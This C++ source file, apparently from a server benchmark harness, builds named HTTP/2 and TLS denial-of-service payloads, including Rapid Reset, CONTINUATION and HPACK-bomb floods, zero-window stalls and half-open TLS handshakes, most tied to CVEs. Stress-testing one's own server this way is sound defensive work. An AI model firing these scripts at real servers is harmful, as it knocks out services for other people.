#include "bench/load/attack/script.h"

#include <algorithm>
#include <iterator>

#include "bench/load/h2_frames.h"

namespace sluice::load {
namespace {

constexpr size_t kTextBytes = 256 * 1024;
// What the origin of bench/compare answers with a MiB.
constexpr std::string_view kLarge = "/1m";
// A browser's and nearly every server's limit.
constexpr uint32_t kStreams = 100;

std::string Hello(std::string_view settings = {}) {
  std::string out(kPreface);
  AppendFrame(out, FrameType::kSettings, 0, 0, settings);
  return out;
}

void AppendRequest(std::string& out, uint32_t stream, std::string_view method = "GET",
                   std::string_view path = "/12") {
  const bool ends = method == "GET";
  AppendFrame(out, FrameType::kHeaders, kEndHeaders | (ends ? kEndStream : 0), stream,
              RequestBlock(method, path));
}

// `opening`, and then the same again and again.
template <typename Append>
Script Flood(std::string opening, Append append) {
  for (uint32_t stream = 1; opening.size() < kTextBytes; stream += 2) append(opening, stream);
  const size_t size = opening.size();
  return {.text = std::move(opening), .at_once = size};
}

// CVE-2023-44487.
Script RapidReset() {
  return Flood(Hello(), [](std::string& out, uint32_t stream) {
    AppendRequest(out, stream);
    AppendFrame(out, FrameType::kReset, 0, stream, Number32(8));
  });
}

// CVE-2025-8671: what the server itself must reset.
Script MadeReset() {
  return Flood(Hello(), [](std::string& out, uint32_t stream) {
    AppendRequest(out, stream, "POST");
    AppendFrame(out, FrameType::kWindow, 0, stream, Number32(0x7fffffff));
  });
}

// CVE-2024-27316 and its kin.
Script Continuation() {
  std::string field;
  for (int i = 0; i < 8; ++i) AppendField(field, "x-a", std::string(100, 'a'));
  std::string opening = Hello();
  AppendFrame(opening, FrameType::kHeaders, kEndStream, 1, RequestBlock("GET", "/12"));
  return Flood(std::move(opening), [&](std::string& out, uint32_t) {
    AppendFrame(out, FrameType::kContinuation, 0, 1, field);
  });
}

// CVE-2019-9515.
Script Settings() {
  std::string settings;
  AppendSetting(settings, kInitialWindow, 65535);
  return Flood(Hello(), [&](std::string& out, uint32_t) {
    AppendFrame(out, FrameType::kSettings, 0, 0, settings);
  });
}

// CVE-2019-9512.
Script Ping() {
  return Flood(Hello(), [](std::string& out, uint32_t) {
    AppendFrame(out, FrameType::kPing, 0, 0, "12345678");
  });
}

// CVE-2019-9518.
Script EmptyData() {
  std::string opening = Hello();
  AppendRequest(opening, 1, "POST");
  return Flood(std::move(opening),
               [](std::string& out, uint32_t) { AppendFrame(out, FrameType::kData, 0, 1, ""); });
}

Script EmptyHeaders() {
  std::string opening = Hello();
  AppendFrame(opening, FrameType::kHeaders, kEndStream, 1, "");
  return Flood(std::move(opening), [](std::string& out, uint32_t) {
    AppendFrame(out, FrameType::kContinuation, 0, 1, "");
  });
}

Script WindowUpdate() {
  return Flood(Hello(), [](std::string& out, uint32_t) {
    AppendFrame(out, FrameType::kWindow, 0, 0, Number32(1));
  });
}

// CVE-2019-9513.
Script Priority() {
  return Flood(Hello(), [](std::string& out, uint32_t stream) {
    AppendFrame(out, FrameType::kPriority, 0, stream + 2, Number32(stream) + '\x10');
  });
}

// RFC 9218's.
Script PriorityUpdate() {
  std::string opening = Hello();
  AppendRequest(opening, 1, "POST");
  return Flood(std::move(opening), [](std::string& out, uint32_t stream) {
    AppendFrame(out, FrameType::kPriorityUpdate, 0, 0,
                Number32(1) + (stream % 4 == 1 ? "u=1" : "u=6"));
  });
}

// CVE-2016-6581: a table's entry of 4,000 bytes, and then a byte for each time it is meant: 16 KiB
// on the wire are 64 MiB of fields.
Script HpackBomb() {
  std::string block = RequestBlock("GET", "/12");
  block += std::string("\x40\x01x\x7f\xa1\x1e", 6) + std::string(4000, 'a');
  block += std::string(12'000, '\xbe');
  std::string cheap = RequestBlock("GET", "/12") + std::string(12'000, '\xbe');
  std::string opening = Hello();
  AppendFrame(opening, FrameType::kHeaders, kEndStream | kEndHeaders, 1, block);
  return Flood(std::move(opening), [&](std::string& out, uint32_t stream) {
    AppendFrame(out, FrameType::kHeaders, kEndStream | kEndHeaders, stream + 2, cheap);
  });
}

// The same below what a head may be: four fields of the table's entry in each of them.
Script HpackRepeat() {
  std::string first = RequestBlock("GET", "/12");
  first += std::string("\x40\x01x\x7f\xa1\x1e", 6) + std::string(4000, 'a');
  const std::string block = RequestBlock("GET", "/12") + std::string(3, '\xbe');
  std::string opening = Hello();
  AppendFrame(opening, FrameType::kHeaders, kEndStream | kEndHeaders, 1, first);
  return Flood(std::move(opening), [&](std::string& out, uint32_t stream) {
    AppendFrame(out, FrameType::kHeaders, kEndStream | kEndHeaders, stream + 2, block);
    AppendFrame(out, FrameType::kReset, 0, stream + 2, Number32(8));
  });
}

// CVE-2019-9511 and 9517: large answers are asked for on all streams, and hardly any of them taken.
Script Windows(uint32_t window) {
  std::string settings;
  AppendSetting(settings, kInitialWindow, window);
  Script script{.text = Hello(settings), .drip = 13.0 * kStreams, .holds = true};
  for (uint32_t i = 0; i < kStreams; ++i) AppendRequest(script.text, 2 * i + 1, "GET", kLarge);
  script.at_once = script.text.size();
  if (window == 0) return script;
  for (int second = 0; second < 60; ++second) {
    for (uint32_t i = 0; i < kStreams; ++i) {
      AppendFrame(script.text, FrameType::kWindow, 0, 2 * i + 1, Number32(1));
    }
  }
  return script;
}

Script ZeroWindow() { return Windows(0); }
Script TinyWindow() { return Windows(1); }

// A TLS 1.3 ClientHello that a server can answer (RFC 8446 section 4.1.2).
std::string ClientHello() {
  const auto number16 = [](size_t number) {
    return std::string{static_cast<char>(number >> 8), static_cast<char>(number & 0xff)};
  };
  const auto extension = [&](size_t type, const std::string& body) {
    return number16(type) + number16(body.size()) + body;
  };
  const std::string name = "shop.example";
  const std::string server_name = number16(name.size() + 3) + '\0' + number16(name.size()) + name;
  const std::string extensions =
      extension(0, server_name) +                                                 // server_name
      extension(10, std::string("\0\x02\0\x1d", 4)) +                             // groups: x25519
      extension(13, std::string("\0\x08\x04\x03\x08\x04\x04\x01\x08\x07", 10)) +  // signatures
      extension(16, std::string("\0\x03\x02h2", 5)) +                             // ALPN: h2
      extension(43, std::string("\x02\x03\x04", 3)) +                             // version: 1.3
      extension(51, std::string("\0\x24\0\x1d\0\x20", 6) + std::string(32, '\x09'));  // key share
  const std::string body = std::string("\x03\x03", 2) + std::string(32, 'r') + '\x20' +
                           std::string(32, 's') + std::string("\0\x02\x13\x01", 4) +  // one suite
                           std::string("\x01\0", 2) +  // no compression
                           number16(extensions.size()) + extensions;
  const std::string message = std::string("\x01\0", 2) + number16(body.size()) + body;
  return std::string("\x16\x03\x01", 3) + number16(message.size()) + message;
}

// Asks for a handshake, and does not go on with it: the server has paid for a signature.
Script HalfHandshake() {
  Script script{.text = ClientHello(), .holds = true, .is_tls = true};
  script.at_once = script.text.size();
  return script;
}

// The same as often as it can.
Script HelloFlood() {
  Script script = HalfHandshake();
  script.holds = false;
  return script;
}

Script SlowHello() {
  return {.text = ClientHello(), .at_once = 1, .drip = 10, .holds = true, .is_tls = true};
}

struct Entry {
  std::string_view name;
  Script (*make)();
};

constexpr Entry kScripts[] = {
    {"rapid-reset", RapidReset},
    {"made-reset", MadeReset},
    {"continuation", Continuation},
    {"settings", Settings},
    {"ping", Ping},
    {"empty-data", EmptyData},
    {"empty-headers", EmptyHeaders},
    {"window-update", WindowUpdate},
    {"priority", Priority},
    {"priority-update", PriorityUpdate},
    {"hpack-bomb", HpackBomb},
    {"hpack-repeat", HpackRepeat},
    {"zero-window", ZeroWindow},
    {"tiny-window", TinyWindow},
    {"half-handshake", HalfHandshake},
    {"hello-flood", HelloFlood},
    {"slow-hello", SlowHello},
};

}  // namespace

std::string ScriptNames() {
  std::string names;
  for (const Entry& entry : kScripts) names.append(names.empty() ? "" : ", ").append(entry.name);
  return names;
}

std::optional<Script> MakeScript(std::string_view name) {
  const auto* const found = std::find_if(std::begin(kScripts), std::end(kScripts),
                                         [&](const Entry& entry) { return entry.name == name; });
  if (found == std::end(kScripts)) return std::nullopt;
  return found->make();
}

}  // namespace sluice::load
